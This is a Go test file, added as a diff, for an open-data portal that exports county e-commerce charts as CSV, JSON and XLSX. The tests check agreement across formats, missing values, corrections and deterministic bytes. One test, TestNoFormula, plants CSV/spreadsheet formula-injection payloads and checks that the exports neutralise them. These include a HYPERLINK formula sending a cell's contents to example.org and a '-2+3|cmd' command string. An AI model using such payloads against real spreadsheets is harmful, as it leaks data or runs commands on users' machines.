@@ -1,0 +1,665 @@
+package opendata_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"testing/fstest"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"portal/charts"
+	"portal/internal/figures"
+	"portal/internal/opendata"
+	"portal/internal/sample"
+)
+
+var update = flag.Bool("update", false, "rewrite the goldens")
+
+func load(t testing.TB, root fs.FS) (*figures.Dataset, []charts.Chart) {
+	t.Helper()
+	ds, problems, err := figures.Load(root)
+	if err != nil || len(problems) > 0 {
+		t.Fatal(problems, err)
+	}
+	made, err := charts.Build(ds, address)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ds, made
+}
+
+func address(scope, id string, p figures.Period) string {
+	return fmt.Sprintf("https://example.org/charts/%s/%s/%s/", scope, id, p)
+}
+
+func addressOf(c charts.Chart) string { return address(c.Scope, c.ID, c.Period) }
+
+func project() fs.FS { return os.DirFS(sample.Root()) }
+
+func chart(t testing.TB, made []charts.Chart, scope, id, period string) charts.Chart {
+	t.Helper()
+	for _, c := range made {
+		if c.Scope == scope && c.ID == id && c.Period.String() == period {
+			return c
+		}
+	}
+	t.Fatalf("no chart %s of %s at %s", id, scope, period)
+	return charts.Chart{}
+}
+
+// files are the three files of a chart.
+type files struct{ csv, json, xlsx []byte }
+
+func filesOf(t testing.TB, ds *figures.Dataset, c charts.Chart) (f files) {
+	t.Helper()
+	var err error
+	if f.csv, err = opendata.CSV(c); err != nil {
+		t.Fatal(err)
+	}
+	if f.json, err = opendata.JSON(ds, c, addressOf(c)); err != nil {
+		t.Fatal(err)
+	}
+	if f.xlsx, err = opendata.XLSX(ds, c, addressOf(c)); err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+// records reads a CSV file back, its head apart.
+func records(t testing.TB, file []byte) []map[string]string {
+	t.Helper()
+	all, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\xEF\xBB\xBF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out []map[string]string
+	for _, line := range all[1:] {
+		r := map[string]string{}
+		for i, field := range line {
+			r[all[0][i]] = field
+		}
+		out = append(out, r)
+	}
+	return out
+}
+
+func workbook(t testing.TB, file []byte) *excelize.File {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f
+}
+
+// The files of one chart, as a person reads them: the CSV with plain line
+// ends, the workbook as its cells look.
+func TestGoldens(t *testing.T) {
+	ds, made := load(t, project())
+	f := filesOf(t, ds, chart(t, made, "luhe", "fund-progress", "2020-07"))
+	for name, got := range map[string]string{
+		"luhe-fund-progress.csv":      strings.ReplaceAll(strings.TrimPrefix(string(f.csv), "\xEF\xBB\xBF"), "\r\n", "\n"),
+		"luhe-fund-progress.json":     string(f.json),
+		"luhe-fund-progress.xlsx.txt": inWords(t, workbook(t, f.xlsx)),
+	} {
+		name = filepath.Join("testdata", name)
+		if *update {
+			if err := os.WriteFile(name, []byte(got), 0o666); err != nil {
+				t.Fatal(err)
+			}
+			continue
+		}
+		want, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(string(want), got); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", name, diff)
+		}
+	}
+}
+
+func inWords(t *testing.T, f *excelize.File) string {
+	var b strings.Builder
+	for _, name := range f.GetSheetList() {
+		fmt.Fprintf(&b, "-- %s --\n", name)
+		rows, err := f.GetRows(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, row := range rows {
+			fmt.Fprintf(&b, "%d|%s\n", i+1, strings.Join(row, "|"))
+		}
+	}
+	return b.String()
+}
+
+// headRows is how many rows of a sheet stand above its figures.
+const headRows = 5
+
+// The three files say of every figure what the chart's tables say.
+func TestFilesAgree(t *testing.T) {
+	roots := map[string]fs.FS{
+		"project":        project(),
+		"gaps":           sample.Portal(sample.Size{Counties: 3, Months: 8, Gaps: true}),
+		"forty counties": sample.Portal(sample.Size{Counties: 40, Months: 2, LongNames: true}),
+		"all zero":       sample.Portal(sample.Size{Counties: 2, Months: 3, Nothing: true}),
+	}
+	for name, root := range roots {
+		t.Run(name, func(t *testing.T) {
+			ds, made := load(t, root)
+			for i, c := range made {
+				// The charts of one county or month are like those of another.
+				if c.Scope != figures.All && len(made) > 100 && i%23 != 0 {
+					continue
+				}
+				t.Run(fmt.Sprintf("%s/%s/%s", c.Scope, c.ID, c.Period), func(t *testing.T) {
+					f := filesOf(t, ds, c)
+					csvAgrees(t, c, f.csv)
+					jsonAgrees(t, c, f.json)
+					xlsxAgrees(t, c, f.xlsx)
+				})
+			}
+		})
+	}
+}
+
+// figuresOf counts the cells of a chart's columns of numbers.
+func figuresOf(c charts.Chart) int {
+	n := 0
+	for _, table := range c.Tables {
+		for _, column := range table.Columns {
+			if column.Number {
+				n += len(table.Rows)
+			}
+		}
+	}
+	return n
+}
+
+func statusOf(cell charts.Cell) string {
+	if cell.Missing == "" {
+		return "reported"
+	}
+	return string(cell.Missing)
+}
+
+func csvAgrees(t *testing.T, c charts.Chart, file []byte) {
+	t.Helper()
+	lines := records(t, file)
+	if len(lines) != figuresOf(c) {
+		t.Fatalf("the CSV has %d lines, the tables %d figures", len(lines), figuresOf(c))
+	}
+	seen := map[string]bool{}
+	n := 0
+	for _, table := range c.Tables {
+		for _, row := range table.Rows {
+			for i, column := range table.Columns {
+				if !column.Number {
+					continue
+				}
+				cell, line := row[i], lines[n]
+				n++
+				unit := column.Unit
+				if unit == "" {
+					unit = cell.Unit
+				}
+				want := map[string]string{
+					"chart": c.ID, "scope": c.Scope, "place": c.Place, "period": c.Period.String(), "table": table.ID,
+					"row": line["row"], "row_name": line["row_name"], "column": column.ID, "column_name": column.Name,
+					"unit": unit, "value": cell.Value, "status": statusOf(cell), "text": cell.Text,
+				}
+				if diff := cmp.Diff(want, line); diff != "" {
+					t.Errorf("CSV (-table +file):\n%s", diff)
+				}
+				if (line["value"] == "") != (line["status"] != "reported") {
+					t.Errorf("CSV: value %q has status %q", line["value"], line["status"])
+				}
+				for _, named := range row {
+					if (named.ID != "" && !strings.Contains(line["row"], named.ID)) || (named.ISO != "" && !strings.Contains(line["row"], named.ISO)) {
+						t.Errorf("CSV: row %q does not name %+v", line["row"], named)
+					}
+				}
+				key := strings.Join([]string{line["table"], line["row"], line["column"]}, " ")
+				if seen[key] {
+					t.Errorf("CSV: two lines are of %s", key)
+				}
+				seen[key] = true
+			}
+		}
+	}
+}
+
+// jsonFile is what a reader of the JSON may rely on.
+type jsonFile struct {
+	Chart, Scope, Place, Period, Title, Sentence, Unit, Address string
+
+	Tables []struct {
+		ID, Caption string
+		Columns     []struct{ ID, Name, Unit, Type string }
+		Rows        [][]struct {
+			Text, Unit, ID, Date, Status string
+			Value                        json.Number
+		}
+	}
+	Notes       []string
+	Sources     []struct{ ID, Title, Issuer, Number, Date string }
+	Corrections []struct {
+		Date, County, Indicator, Period, Unit, Reason, Source string
+		CountyName                                            string `json:"county_name"`
+		IndicatorName                                         string `json:"indicator_name"`
+		Old, New                                              struct {
+			Value  json.Number
+			Status string
+		}
+	}
+}
+
+func readJSON(t testing.TB, file []byte) (f jsonFile) {
+	t.Helper()
+	decoder := json.NewDecoder(bytes.NewReader(file))
+	decoder.DisallowUnknownFields()
+	if err := decoder.Decode(&f); err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+func jsonAgrees(t *testing.T, c charts.Chart, file []byte) {
+	t.Helper()
+	f := readJSON(t, file)
+	if f.Chart != c.ID || f.Scope != c.Scope || f.Place != c.Place || f.Period != c.Period.String() || f.Title != c.Title ||
+		f.Sentence != c.Sentence || f.Unit != c.Unit || f.Address != addressOf(c) || len(f.Sources) < len(c.Sources) {
+		t.Errorf("JSON: %+v", f)
+	}
+	if diff := cmp.Diff(c.Notes, f.Notes); diff != "" {
+		t.Errorf("JSON: notes (-chart +file):\n%s", diff)
+	}
+	for n, table := range c.Tables {
+		got := f.Tables[n]
+		if got.ID != table.ID || got.Caption != table.Caption || len(got.Columns) != len(table.Columns) || len(got.Rows) != len(table.Rows) {
+			t.Fatalf("JSON: table %s is %s with %d columns and %d rows", table.ID, got.ID, len(got.Columns), len(got.Rows))
+		}
+		for i, column := range table.Columns {
+			if h := got.Columns[i]; h.ID != column.ID || h.Name != column.Name || h.Unit != column.Unit || (h.Type == "number") != column.Number {
+				t.Errorf("JSON: column %+v is %+v", column, h)
+			}
+		}
+		for r, row := range table.Rows {
+			for i, cell := range row {
+				status := ""
+				if table.Columns[i].Number {
+					status = statusOf(cell)
+				}
+				g := got.Rows[r][i]
+				if g.Text != cell.Text || g.Value.String() != cell.Value || g.Unit != cell.Unit || g.ID != cell.ID || g.Date != cell.ISO || g.Status != status {
+					t.Errorf("JSON: cell %+v is %+v", cell, g)
+				}
+			}
+		}
+	}
+}
+
+func xlsxAgrees(t *testing.T, c charts.Chart, file []byte) {
+	t.Helper()
+	f := workbook(t, file)
+	sheets := f.GetSheetList()
+	if len(sheets) != len(c.Tables) {
+		t.Fatalf("the workbook has %d sheets, the chart %d tables", len(sheets), len(c.Tables))
+	}
+	for n, table := range c.Tables {
+		name := sheets[n]
+		shown, err := f.GetRows(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		raw, err := f.GetRows(name, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if shown[0][0] != c.Title || shown[1][0] != c.Sentence || !strings.Contains(shown[2][0], c.Period.Chinese()) {
+			t.Errorf("workbook: head %q", shown[:3])
+		}
+		for i, column := range table.Columns {
+			if shown[3][i] != column.Name || column.Unit != "" && shown[4][i] != column.Unit {
+				t.Errorf("workbook: column %+v is %q in %q", column, shown[3][i], shown[4][i])
+			}
+		}
+		for r, row := range table.Rows {
+			for i, cell := range row {
+				at, _ := excelize.CoordinatesToCellName(i+1, headRows+r+1)
+				kind, err := f.GetCellType(name, at)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if formula, err := f.GetCellFormula(name, at); err != nil || formula != "" {
+					t.Errorf("workbook: %s %s has the formula %q, %v", name, at, formula, err)
+				}
+				day, _ := figures.ParseDate(cell.ISO)
+				number, text := kind == excelize.CellTypeUnset || kind == excelize.CellTypeNumber, cell.Text
+				if day.Exact() {
+					text = cell.ISO
+				}
+				if number != (cell.Value != "" || day.Exact()) || shown[headRows+r][i] != text {
+					t.Errorf("workbook: %s %s shows %q of type %v for %+v", name, at, shown[headRows+r][i], kind, cell)
+				}
+				if cell.Value != "" && raw[headRows+r][i] != cell.Value {
+					t.Errorf("workbook: %s %s holds %q for %s", name, at, raw[headRows+r][i], cell.Value)
+				}
+			}
+		}
+	}
+}
+
+// A county that left a cell blank has a line without a value, which is not 0.
+func TestMissing(t *testing.T) {
+	ds, made := load(t, project())
+	f := filesOf(t, ds, chart(t, made, "all", "fund-progress", "2020-07"))
+	found := false
+	for _, line := range records(t, f.csv) {
+		if line["row"] == "lufeng" && line["column"] == "fund-progress" {
+			found = true
+			if line["value"] != "" || line["status"] != "not_reported" || line["text"] != "未填报" || line["row_name"] != "陆丰市" {
+				t.Errorf("the progress of lufeng is %v", line)
+			}
+		}
+	}
+	if !found {
+		t.Error("the progress of lufeng has no line")
+	}
+	if !strings.Contains(inWords(t, workbook(t, f.xlsx)), "|陆丰市|未公布|0|0|未填报\n") {
+		t.Error("the workbook does not say that lufeng did not report")
+	}
+}
+
+// Spreadsheets need the mark to read hanzi; every line ends as RFC 4180 says.
+func TestCSVBytes(t *testing.T) {
+	_, made := load(t, project())
+	for _, c := range made {
+		file, err := opendata.CSV(c)
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, ok := strings.CutPrefix(string(file), "\xEF\xBB\xBFchart,scope,")
+		if !ok || !strings.HasSuffix(text, "\r\n") || strings.Count(text, "\n") != strings.Count(text, "\r\n") {
+			t.Errorf("%s of %s: %q", c.ID, c.Scope, file)
+		}
+	}
+}
+
+// parts unpacks a workbook.
+func parts(t *testing.T, file []byte) map[string]string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string]string{}
+	for _, f := range z.File {
+		if f.ModifiedDate != 0 || f.ModifiedTime != 0 {
+			t.Errorf("%s was made at %v", f.Name, f.Modified)
+		}
+		r, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		src, err := io.ReadAll(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out[f.Name] = string(src)
+	}
+	return out
+}
+
+// An amount has the reported digits in the workbook, and nobody is said to
+// have made it at a time that is not true.
+func TestXLSXParts(t *testing.T) {
+	ds, made := load(t, project())
+	p := parts(t, filesOf(t, ds, chart(t, made, "luhe", "contract-awards", "2020-07")).xlsx)
+	for _, want := range []string{"<v>2064956.27</v>", "<v>936000.00</v>", "<v>43774</v>", `state="frozen"`, "<hyperlink ", `<dimension ref="A1:D14">`} {
+		if !strings.Contains(p["xl/worksheets/sheet1.xml"], want) {
+			t.Errorf("sheet1.xml has no %s", want)
+		}
+	}
+	for name, src := range p {
+		if strings.Contains(src, "<f>") || strings.Contains(src, "<f ") {
+			t.Errorf("%s has a formula", name)
+		}
+	}
+	if core := p["docProps/core.xml"]; strings.Contains(core, "xuri") || strings.Contains(core, "Z<") || !strings.Contains(core, "5份中标合同") {
+		t.Errorf("core.xml is %s", core)
+	}
+}
+
+// A spreadsheet keeps fifteen digits; a longer number is a text there.
+func TestXLSXLongNumbers(t *testing.T) {
+	ds, made := load(t, project())
+	c := chart(t, made, "luhe", "contract-awards", "2020-07")
+	c.Tables = []charts.Table{{ID: "contracts", Caption: "长数", Columns: []charts.Column{{ID: "contract", Name: "项目"}, {ID: "amount", Name: "金额", Number: true}}}}
+	for _, v := range []string{"123456789012345.67", "1234567890123.45", "-0.5", "1000000000000000000"} {
+		c.Tables[0].Rows = append(c.Tables[0].Rows, []charts.Cell{{Text: "第" + v + "项"}, {Text: figures.Grouped(v), Value: v}})
+	}
+	f := filesOf(t, ds, c)
+	sheet := parts(t, f.xlsx)["xl/worksheets/sheet1.xml"]
+	for value, kept := range map[string]bool{"123456789012345.67": false, "1234567890123.45": true, "-0.5": true, "1000000000000000000": true} {
+		if strings.Contains(sheet, "<v>"+value+"</v>") != kept {
+			t.Errorf("%s is a number: %t", value, !kept)
+		}
+	}
+	if !strings.Contains(inWords(t, workbook(t, f.xlsx)), "|123,456,789,012,345.67\n") {
+		t.Error("the long number is not a text")
+	}
+	csvAgrees(t, c, f.csv)
+	jsonAgrees(t, c, f.json)
+}
+
+// No text from the data is a formula for a spreadsheet.
+func TestNoFormula(t *testing.T) {
+	const (
+		county   = `=HYPERLINK("http://example.org/?"&A1,"看")`
+		contract = "@SUM(1+1)"
+		winner   = "-2+3|cmd"
+		note     = "+1"
+	)
+	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
+	for name, edits := range map[string][]string{
+		"data/jurisdictions.yaml": {"name: 示例1县", "name: '" + county + "'"},
+		"data/projects/c0.yaml":   {"title: 合成合同", "title: '" + contract + "'", "winner: 合成公司", "winner: '" + winner + "'"},
+		"data/sources.yaml":       {"issuer: 示例市商务局", "issuer: '" + note + "'"},
+	} {
+		root[name] = &fstest.MapFile{Data: []byte(strings.NewReplacer(edits...).Replace(string(root[name].Data)))}
+	}
+	ds, made := load(t, root)
+	quoted := map[string]bool{}
+	for _, c := range made {
+		f := filesOf(t, ds, c)
+		for _, line := range records(t, f.csv) {
+			for field, text := range line {
+				if field != "value" && text != "" && strings.ContainsAny(text[:1], "=+-@\t\r") {
+					t.Errorf("%s of %s: %s is %q", c.ID, c.Scope, field, text)
+				}
+				quoted[text] = true
+			}
+		}
+		for name, src := range parts(t, f.xlsx) {
+			if strings.Contains(src, "<f>") || strings.Contains(src, "<f ") {
+				t.Errorf("%s of %s: %s has a formula", c.ID, c.Scope, name)
+			}
+		}
+		xlsxAgrees(t, c, f.xlsx)
+		jsonAgrees(t, c, f.json)
+	}
+	for _, want := range []string{"'" + county, "'" + contract + "　" + winner + "　2020年12月1日"} {
+		if !quoted[want] {
+			t.Errorf("no field is %q", want)
+		}
+	}
+}
+
+// A published figure that was changed says so in every file that can, with the
+// document that says why.
+func TestCorrections(t *testing.T) {
+	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
+	report := string(root["data/reports/2021-01.yaml"].Data) + `corrections:
+  - county: c0
+    indicator: stations
+    old: {missing: not_reported}
+    new: 1
+    reason: 补报。
+    source: letter
+    date: 2021-02-03
+  - county: all
+    indicator: stations
+    old: 1
+    new: 2
+    reason: 补报。
+    source: letter
+    date: 2021-02-03
+`
+	root["data/reports/2021-01.yaml"] = &fstest.MapFile{Data: []byte(report)}
+	sources := string(root["data/sources.yaml"].Data) + "  - id: letter\n    title: 更正函\n    number: 示函〔2021〕1号\n    date: 2021-02\n"
+	root["data/sources.yaml"] = &fstest.MapFile{Data: []byte(sources)}
+	ds, made := load(t, root)
+	f := filesOf(t, ds, chart(t, made, "all", "station-coverage", "2021-01"))
+	got := readJSON(t, f.json)
+	if len(got.Corrections) != 2 {
+		t.Fatalf("the JSON has %d corrections", len(got.Corrections))
+	}
+	one, all := got.Corrections[0], got.Corrections[1]
+	if one.Date != "2021-02-03" || one.County != "c0" || one.CountyName != "示例1县" || one.Indicator != "stations" || one.IndicatorName != "累计建设村级电商服务站" ||
+		one.Period != "2021-01" || one.Unit != "个" || one.Reason != "补报。" || one.Source != "letter" {
+		t.Errorf("the county's correction is %+v", one)
+	}
+	if one.Old.Status != "not_reported" || one.Old.Value != "" || one.New.Status != "reported" || one.New.Value != "1" {
+		t.Errorf("the county's correction is from %+v to %+v", one.Old, one.New)
+	}
+	if all.County != "all" || all.CountyName != "两县合计" || all.Old.Value != "1" {
+		t.Errorf("the total's correction is %+v", all)
+	}
+	if last := got.Sources[len(got.Sources)-1]; last.ID != "letter" || last.Title != "更正函" || last.Number != "示函〔2021〕1号" || last.Date != "2021-02" {
+		t.Errorf("the last source is %+v", last)
+	}
+	words := inWords(t, workbook(t, f.xlsx))
+	for _, want := range []string{
+		"更正：2021年2月3日，示例1县2021年1月的累计建设村级电商服务站由未填报改为1个。原因：补报。来源：《更正函》",
+		"更正：2021年2月3日，两县合计2021年1月的累计建设村级电商服务站由1个改为2个。原因：补报。来源：《更正函》",
+		"来源：《更正函》，示函〔2021〕1号，2021年2月",
+	} {
+		if !strings.Contains(words, want) {
+			t.Errorf("the workbook does not say %q:\n%s", want, words)
+		}
+	}
+}
+
+// The bytes are the same in another time zone.
+func TestSameBytes(t *testing.T) {
+	here := time.Local
+	defer func() { time.Local = here }()
+	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
+	var first []files
+	for _, zone := range []*time.Location{time.UTC, time.FixedZone("far", 14*60*60), time.FixedZone("west", -11*60*60)} {
+		time.Local = zone
+		ds, made := load(t, root)
+		var all []files
+		for _, c := range made {
+			all = append(all, filesOf(t, ds, c))
+		}
+		if first == nil {
+			first = all
+		}
+		for i := range all {
+			if !bytes.Equal(all[i].csv, first[i].csv) || !bytes.Equal(all[i].json, first[i].json) || !bytes.Equal(all[i].xlsx, first[i].xlsx) {
+				t.Errorf("%s: files of %s of %s differ", zone, made[i].ID, made[i].Scope)
+			}
+		}
+	}
+}
+
+// Sheets are named by captions, as far as spreadsheets allow it.
+func TestSheetNames(t *testing.T) {
+	ds, made := load(t, project())
+	c := chart(t, made, "luhe", "contract-awards", "2020-07")
+	table := c.Tables[0]
+	c.Tables = nil
+	long := strings.Repeat("长", 40)
+	for _, caption := range []string{"a/b:c?", "A b c", "'", long, long + "x", strings.Repeat("𠮷", 20)} {
+		table.Caption = caption
+		c.Tables = append(c.Tables, table)
+	}
+	file, err := opendata.XLSX(ds, c, "/charts/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"a b c", "A b c（2）", "contracts", long[:31*3], long[:28*3] + "（2）", strings.Repeat("𠮷", 15)}
+	if diff := cmp.Diff(want, workbook(t, file).GetSheetList()); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	if sheet := parts(t, file)["xl/worksheets/sheet1.xml"]; strings.Contains(sheet, "<hyperlink ") {
+		t.Error("an address without a host is a link")
+	}
+}
+
+// A text that a spreadsheet would cut is refused, and so is a chart whose
+// documents nobody knows.
+func TestRefused(t *testing.T) {
+	ds, made := load(t, project())
+	c := chart(t, made, "luhe", "contract-awards", "2020-07")
+	c.Sentence = strings.Repeat("长", 32768)
+	if _, err := opendata.XLSX(ds, c, ""); err == nil || !strings.Contains(err.Error(), "32768 characters; a spreadsheet holds at most 32767") {
+		t.Errorf("a long text gives %v", err)
+	}
+	c = chart(t, made, "luhe", "contract-awards", "2020-07")
+	c.Sources = []string{"nowhere"}
+	if _, err := opendata.XLSX(ds, c, ""); err == nil || !strings.Contains(err.Error(), `source "nowhere"`) {
+		t.Errorf("an unknown source gives %v", err)
+	}
+	if _, err := opendata.JSON(ds, c, ""); err == nil || !strings.Contains(err.Error(), `source "nowhere"`) {
+		t.Errorf("an unknown source gives %v", err)
+	}
+}
+
+func large(b *testing.B) (*figures.Dataset, charts.Chart) {
+	ds, made := load(b, sample.Portal(sample.Size{Counties: 5, Months: 60}))
+	return ds, chart(b, made, "all", "fund-progress", "2025-12")
+}
+
+func BenchmarkCSV(b *testing.B) {
+	_, c := large(b)
+	for b.Loop() {
+		if _, err := opendata.CSV(c); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkJSON(b *testing.B) {
+	ds, c := large(b)
+	for b.Loop() {
+		if _, err := opendata.JSON(ds, c, ""); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkXLSX(b *testing.B) {
+	ds, c := large(b)
+	for b.Loop() {
+		if _, err := opendata.XLSX(ds, c, ""); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
